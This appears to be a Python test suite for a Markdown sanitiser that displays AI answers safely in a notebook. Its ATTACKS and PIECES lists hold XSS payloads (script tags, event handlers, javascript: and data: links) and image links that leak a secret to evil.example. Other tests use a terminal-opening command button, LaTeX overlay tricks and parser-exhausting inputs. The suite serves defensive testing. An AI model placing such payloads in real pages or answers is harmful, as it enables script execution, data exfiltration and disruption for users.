"""An answer shown as Markdown: nothing in it runs, and everything in it is readable."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from llmkernel.notebook.markdown import fence, safe
from llmkernel.notebook.rendering import answers
from llmkernel.notebook.tables import PLAIN
from tests.notebook.page import Page, as_commonmark, as_nbconvert

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<a href='javascript:alert(1)'>click</a>",
    "<button data-commandlinker-command='terminal:open'>ok</button>",
    "<style>*{display:none}</style>",
    "<form action='/logout'><input type=submit></form>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](file:///etc/passwd)",
    "[click](/lab?reset)",
    "[click](//evil.example/x)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click][r]\n\n[r]: <data:text/html,x> 'title'",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/?secret)",
    "!http://evil.example/x.png",
    "Look!https://evil.example/p?q=1",
    "!<http://evil.example/x.png>",
    r"\![x](http://evil.example/x.png)",
    r"$\![x](http://evil.example/x.png)$",
    "![pixel][r]\n\n[r]: https://evil.example/x.png",
    "![x](javascript:alert(1))",
    "![x](/logout)",
    '[x](http://a/$) " onmouseover="alert(1) $',
    '[x](http://a/@@0@@) $" onmouseover="alert(1)$',
    'http://a/$" onmouseover="alert(1)$',
    '[x](http://a/\\begin{a}" onmouseover="alert(1)\\end{a})',
    '# $" onmouseover="alert(1)$',
    '```x" onmouseover="alert(1)\ncode\n```',
    "`$` and `<img src=x onerror=alert(1)>`",
    "$`$ and `<img src=x onerror=alert(1)>`",
    "> ```\n> $\n> ```\n>\n> $x$\n>\n> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "- ```\n  $\n  ```\n- $x$\n- ```\n  <img src=x onerror=alert(1)>\n  ```",
    "``<img src=x onerror=alert(1)>`x$`` $ ` `",
    "$\\href{javascript:alert(1)}{x}$",
    "$<img src=x onerror=alert(1)>$",
    "$$<script>alert(1)</script>$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "http://b/x](javascript:alert(1))",
    "`unclosed <img src=x onerror=alert(1)>",
    "```\nunclosed <script>alert(1)</script>",
    "<pre><code></code></pre><script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    ">" * 200 + "<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_answer_runs_or_fetches(attack):
    shown = safe(attack)
    assert as_nbconvert(shown).dangers == []
    assert as_commonmark(shown).dangers == []
    assert "@@" not in "".join(as_commonmark(shown).links)
    assert "$" not in "".join(as_commonmark(shown).links)


def test_the_attacks_are_attacks():
    """Or the test above would prove nothing."""
    harmful = [attack for attack in ATTACKS if as_commonmark(attack).dangers]
    assert len(harmful) > 20  # the others need a front end that typesets mathematics


PIECES = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "](javascript:alert(1))"),
    *("`", "``", "```", "````", "~~~", "\n```\n", "```py\n", "\n- ```\n  ", "\n\n", "\n", "\n  "),
    *("\n    ", "\n> ", "> ", "- ", "1. ", "1) ", "* ", "+ ", "# ", "\n---\n", "\n===\n", "[ ] "),
    *("$", "$$", "$x$", "\\(", "\\)", "\\[", "\\]", "\\", "\\begin{a}", "\\end{a}", "{", "}"),
    *("[", "]", "(", ")", "![", "](http://a/", "[r]", "[r]: javascript:x\n", "<http://a>"),
    *("http://b/x_y_z*", "www.c.d/`", "|", "\n|--|--|\n", "~~", "**", "_", "*", "&lt;", "&#96;"),
    *("@@0@@", '" onmouseover="alert(1)', "<!--", "-->", "</pre>", "<pre>", ": ", "a b", "\t"),
    *("\x1b[31m", "\x00", "\r", "\u202e", "\u00e9"),
]


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
@settings(max_examples=400, deadline=None)
def test_no_mixture_of_markdown_runs_in_any_parser(text):
    shown = safe(text)
    assert as_nbconvert(shown).dangers == []
    assert as_commonmark(shown).dangers == []


@given(st.text(st.characters(codec="utf-8"), max_size=80))
@settings(max_examples=200, deadline=None)
def test_arbitrary_text_is_safe_too(text):
    assert as_commonmark(safe(text)).dangers == []


@given(st.lists(st.text("abc *_~`<>&#-+.1)|\\\n\t\"'", max_size=12), max_size=12).map("\n".join))
@settings(max_examples=300, deadline=None)
def test_what_is_read_is_what_the_model_wrote(text):
    parser = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    assert as_commonmark(safe(text)).text == Page(parser.render(text)).text


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        ("**bold** and *soft* and ~~gone~~", "**bold** and *soft* and ~~gone~~"),
        ("# Title", "# Title"),
        ("- one\n- two\n  - inner", "- one\n- two\n  - inner"),
        ("3. three\n4. four", "3. three\n4. four"),
        ("- [ ] open\n- [x] done", "- [ ] open\n- [x] done"),
        ("use `len(x)`", "use `len(x)`"),
        ("| a | b |\n|:-|-:|\n| 1 | 2 |", "| a | b |\n| :--- | ---: |\n| 1 | 2 |"),
        ("[docs](https://a.example/x?y=1)", "[docs](https://a.example/x?y=1)"),
        ("one\ntwo", "one\ntwo"),
        ("---", "---"),
    ],
)
def test_plain_markdown_stays_what_it_is(text, markdown):
    assert safe(text) == markdown


def test_code_in_a_list_keeps_its_language_and_its_place():
    text = "1. First\n   ```python\n   if a < b:\n       pass\n   ```\n2. Second"
    assert safe(text) == (
        "1. First\n\n   ```python\n   if a < b:\n       pass\n   ```\n\n2. Second"
    )


def test_code_in_a_quote_has_no_dollar_sign_that_could_pair_with_another():
    shown = safe("> ```\n> ls $HOME\n> ```\n>\n> $x$")
    assert "> <pre><code>ls &#36;HOME" in shown
    assert shown.count("$") == 2


def test_code_that_is_still_growing_is_a_whole_block():
    assert safe("```python\nprint(1") == "```python\nprint(1\n```"


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        (r"so \(a < b\) holds", r"so $a \lt b$ holds"),
        (r"\[ x^2 \]", "$$\nx^2\n$$"),
        ("$$\nx < y\n$$", "$$\nx \\lt  y\n$$"),
        ("$x_1$ and $x_2$", "$x_1$ and $x_2$"),
    ],
)
def test_mathematics_reaches_the_typesetter(text, markdown):
    assert " ".join(safe(text).split()) == " ".join(markdown.split())


@pytest.mark.parametrize(
    "source",
    [
        r"\rule{500em}{500em}",
        r"\rule{1em}{999,9em}",
        r"\raise 9em {x}",
        r"\mathllap{over what stands before}",
        r"\smash{\begin{matrix}a\\b\\c\end{matrix}}",
        r"\hspace{-50em}x",
        r"\hspace-50em x",
        r"a \above 9em b",
        r"\kern-50em x",
        r"\begin{matrix}a\\[900pt]b\end{matrix}",
        r"\overbracket[90em][90em]{x}",
        r"\root \uproot{900} 3 \of x",
        r"\DeclareMathOperator{\alpha}{x}",
        r"\renewenvironment{matrix}{a}{b}",
    ],
)
def test_mathematics_stays_in_its_place_and_leaves_that_of_others_alone(source):
    assert safe(f"${source}$").count("<span>&#36;</span>") == 2


@pytest.mark.parametrize(
    "source",
    [
        r"\rule{1cm}{0.15mm}",
        r"a \hspace{1em} b",
        r"\begin{matrix}a\\[10pt]b\end{matrix}",
        r"x = -5",
        r"e^{-2in} + \frac{-2xy}{3}",
        r"\text{120 cm}",
        r"\left( \frac{12}{3} \right) \text{ cm}",
        r"\lambda \neq \nu",
    ],
)
def test_ordinary_lengths_are_left_to_the_typesetter(source):
    assert safe(f"${source}$") == f"${source}$"


@pytest.mark.parametrize("text", ["costs $5 and $10", "$HOME and $PATH", "a $ b $ c", "$a{b$"])
def test_money_and_shell_variables_are_no_mathematics(text):
    shown = safe(text)
    assert shown.count("<span>&#36;</span>") == text.count("$")
    assert as_nbconvert(shown).text == "".join(text.split())


def test_a_picture_becomes_a_link_that_nothing_follows():
    assert safe("![a cat](https://a.example/cat.png)") == (
        "[image: a cat](https://a.example/cat.png)"
    )


def test_an_address_in_the_text_leads_where_it_says():
    text = "see https://en.wikipedia.org/wiki/A_(b), http://a.example/x_y_z."
    assert as_commonmark(safe(text)).links == [
        "https://en.wikipedia.org/wiki/A_%28b%29",
        "http://a.example/x_y_z",
    ]


def test_a_fence_is_longer_than_what_is_in_it():
    assert fence("a\n````\nb", "md") == "`````md\na\n````\nb\n`````"


def test_text_nested_beyond_the_parsers_limit_is_shown_all_the_same():
    assert "the end" in safe(">" * 150 + " the end")


@pytest.mark.timeout(20)
@pytest.mark.parametrize("unclosed", ["\\[\na\n", "\\(a ", "\\[", "$$\na\n", "$a "])
def test_unclosed_mathematics_is_read_in_reasonable_time(unclosed: str) -> None:
    assert safe(unclosed * 8000)


@pytest.mark.timeout(10)
@pytest.mark.parametrize("form", ["markdown", "code", "json"])
@pytest.mark.parametrize(
    "text", ["![" * 40000, "[" * 200000, "[[]" * 40000, ("![" * 200 + "\n\n") * 200]
)
def test_brackets_without_end_are_shown_soon(text, form):
    assert answers([text], form)[PLAIN].strip() == text.strip()


def test_brackets_of_a_text_are_no_reason_to_give_up():
    text = "[a [b](https://c.d) e] in [0, 1) " * 4 + "[" * 5 + "]" * 5
    assert not safe(text).startswith("```")
    assert not safe("\n\n".join([text] * 300)).startswith("```")


@pytest.mark.parametrize(
    "text", ["*" * 600 + "a" + "*" * 600, "_" * 600 + "a" + "_" * 600, "**a " * 300 + "b**" * 300]
)
def test_emphasis_without_end_is_shown_as_it_is(text):
    assert safe(text) == fence(text)
